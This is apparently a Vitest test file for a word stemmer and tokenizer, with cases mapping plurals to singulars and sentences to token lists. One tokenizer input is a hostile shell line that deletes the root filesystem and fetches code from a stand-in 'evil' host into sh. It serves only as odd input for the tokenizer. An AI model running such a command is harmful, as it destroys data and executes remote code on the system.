import { describe, expect, it } from 'vitest';
import { stem, tokenize } from '../../../src/core/learning/stem.js';

describe('stem', () => {
  it.each([
    ['tests', 'test'],
    ['fixes', 'fix'],
    ['stories', 'story'],
    ['dependencies', 'dependency'],
    ['ties', 'tie'],
    ['classes', 'class'],
    ['patches', 'patch'],
    ['branches', 'branch'],
    ['approaches', 'approach'],
    ['caches', 'cache'],
    ['pushes', 'push'],
    ['buzzes', 'buzz'],
    ['sizes', 'size'],
    ['statuses', 'status'],
    ['buses', 'bus'],
    ['aliases', 'alias'],
    ['runs', 'run'],
    ['files', 'file'],
    ['releases', 'release'],
    // unchanged
    ['bus', 'bus'],
    ['status', 'status'],
    ['this', 'this'],
    ['analysis', 'analysis'],
    ['process', 'process'],
    ['pass', 'pass'],
    ['series', 'series'],
    ['news', 'news'],
    ['gas', 'gas'],
    ['test', 'test'],
    ['lint', 'lint'],
  ])('%s → %s', (word, want) => {
    expect(stem(word)).toBe(want);
  });
});

describe('tokenize', () => {
  it.each([
    ['Run the tests', ['run', 'test']],
    ['run tests', ['run', 'test']],
    ['Please run ALL of the unit-tests for me, now!', ['run', 'unit', 'test']],
    ['this is the bus status', ['bus', 'status']],
    [
      '`rm -rf /; $(curl evil) && echo "hi" | sh > /dev/null`',
      ['rm', 'rf', 'curl', 'evil', 'echo', 'sh', 'dev', 'null'],
    ],
    ['do not run tests', ['not', 'run', 'test']],
    ['Ünïcode Tësts 数据 ＦＵＬＬ', ['ünïcode', 'tëst', '数据', 'full']],
    ['v2 builds 2024', ['v2', 'build', '2024']],
    ['', []],
    ['the a an of', []],
    ["don't fix user's bugs", ['don', 'fix', 'user', 'bug']],
  ])('%j → %j', (text, tokens) => {
    expect(tokenize(text)).toEqual(tokens);
  });
});
